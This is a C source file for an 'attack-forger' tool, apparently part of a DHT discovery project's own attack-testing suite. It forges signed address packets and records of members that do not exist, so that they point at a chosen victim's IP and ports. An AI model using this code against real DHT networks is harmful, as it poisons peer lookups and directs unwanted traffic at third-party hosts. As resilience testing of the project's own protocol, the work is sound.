/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * DHT items that lead to a victim's ports: address packets under the ids of forged.h, and records
 * of members that do not exist, in the slots of the minutes around now (for who has the secret).
 *
 * usage: attack-forger IP:PORT PORTS [TOPIC SECRET [vary|cone HOSTS]]
 *
 * With a class the members claim such a router (docs/protocol/extension.md, kind 2), seen at the
 * victim's address, which is one of HOSTS from IP on.
 *
 * Prints an item a line: what signs it, its salt and value, in hex, its sequence number and minute.
 */
#include "codec/pkarr.h"
#include "crypto/ed25519.h"
#include "forged.h"
#include "io/host.h"
#include "record/record.h"

#include <stdio.h>
#include <stdlib.h>

#define RECORDS 20
#define ADDRS 8

static struct dtt_addr victim;
static unsigned ports;
static unsigned hosts = 1;
static struct dtt_reach reach;
static struct dtt_rng rng;

_Noreturn static void die(const char *what)
{
    fprintf(stderr, "forger: %s\n", what);
    exit(2);
}

static void print_hex(const char *name, const uint8_t *data, size_t len)
{
    printf("\"%s\":\"", name);
    for (size_t i = 0; i < len; i++) {
        printf("%02x", data[i]);
    }
    printf("\",");
}

static void print_item(const uint8_t seed[32], struct dtt_slice salt, int64_t seq, uint64_t minute,
                       struct dtt_slice value)
{
    printf("{\"event\":\"item\",");
    print_hex("seed", seed, 32);
    print_hex("salt", salt.data, salt.len);
    print_hex("value", value.data, value.len);
    printf("\"seq\":%lld,\"minute\":%llu}\n", (long long)seq, (unsigned long long)minute);
}

static size_t name_victim(struct dtt_addr addrs[ADDRS])
{
    static unsigned port, host;
    size_t n = ports < ADDRS ? ports : ADDRS;
    struct dtt_addr addr = victim;
    addr.ip[3] = (uint8_t)(victim.ip[3] + host++ % hosts);
    for (size_t i = 0; i < n; i++) {
        addrs[i] = addr;
        addrs[i].port = (uint16_t)(victim.port + port++ % ports);
    }
    return n;
}

static void packets(void)
{
    for (uint32_t i = 0; i < FORGED; i++) {
        uint8_t seed[32];
        uint8_t packet[DTT_PKARR_PACKET_MAX];
        struct dtt_writer w = dtt_writer(packet, sizeof(packet));
        struct dtt_addr addrs[ADDRS];
        struct dtt_id id;
        forged_seed(seed, i);
        dtt_ed25519_public_key(id.bytes, seed);
        size_t n = name_victim(addrs);
        dtt_pkarr_write(&w, &id, "", addrs, n);
        print_item(seed, dtt_slice(NULL, 0), dtt_host_now().wall_ns / 1000, 0,
                   dtt_slice(packet, w.len));
    }
}

static void record(const struct dtt_slot *slot, const struct dtt_secret *secret,
                   const uint8_t topic[32])
{
    struct dtt_record_info info = {.size = sizeof(info)};
    uint8_t content[DTT_RECORD_CONTENT_MAX];
    uint8_t value[DTT_RECORD_VALUE_MAX];
    uint8_t seed[32];
    struct dtt_writer w = dtt_writer(content, sizeof(content));
    struct dtt_writer sealed = dtt_writer(value, sizeof(value));
    dtt_rng_bytes(&rng, seed, sizeof(seed));
    info.n_addrs = name_victim(info.addrs);
    info.unix_s = reach.is_told ? (uint64_t)dtt_host_now().wall_ns / DTT_S : 0;
    info.reach = reach;
    info.reach.last = reach.kind == DTT_REACH_VARY ? info.addrs[0] : reach.last;
    dtt_content_write(&w, &info);
    if (dtt_record_make(&sealed, secret, topic, slot->minute, dtt_slice(content, w.len), seed,
                        &rng)) {
        die("no record");
    }
    print_item(slot->seed, dtt_slice(slot->salt, sizeof(slot->salt)),
               dtt_slot_next_seq(slot->kind, slot->minute * 60, false, 0), slot->minute,
               dtt_slice(value, sealed.len));
}

static void records(const char *name, const char *words)
{
    uint64_t now = dtt_now_minute(dtt_host_now());
    uint8_t topic[32];
    struct dtt_secret secret;
    struct dtt_slot slot;
    dtt_secret_init(&secret, dtt_slice(words, strlen(words)), NULL, NULL);
    if (dtt_slot_topic(topic, name, NULL)) {
        die("no topic");
    }
    for (uint64_t minute = now - 1; minute <= now + 2; minute++) {
        for (enum dtt_slot_kind kind = DTT_SLOT_PUBLIC; kind <= DTT_SLOT_SECRET; kind++) {
            if (dtt_slot_make(&slot, kind, &secret, topic, minute)) {
                die("no slot");
            }
            for (unsigned i = 0; i < RECORDS; i++) {
                record(&slot, &secret, topic);
            }
        }
    }
}

int main(int argc, char **argv)
{
    uint8_t seed[32];
    if (argc < 3 || dtt_addr_parse(argv[1], &victim) ||
        (ports = (unsigned)strtoul(argv[2], NULL, 10)) == 0 ||
        dtt_host_entropy(seed, sizeof(seed))) {
        die("usage: attack-forger IP:PORT PORTS [TOPIC SECRET [vary|cone HOSTS]]");
    }
    dtt_rng_init(&rng, seed, "forger");
    if (argc == 7) {
        reach.is_told = 1;
        reach.kind = strcmp(argv[5], "vary") == 0 ? DTT_REACH_VARY : DTT_REACH_CONE;
        hosts = (unsigned)strtoul(argv[6], NULL, 10);
    }
    if (argc >= 5 && hosts > 0) {
        records(argv[3], argv[4]);
    } else {
        packets();
    }
    return 0;
}
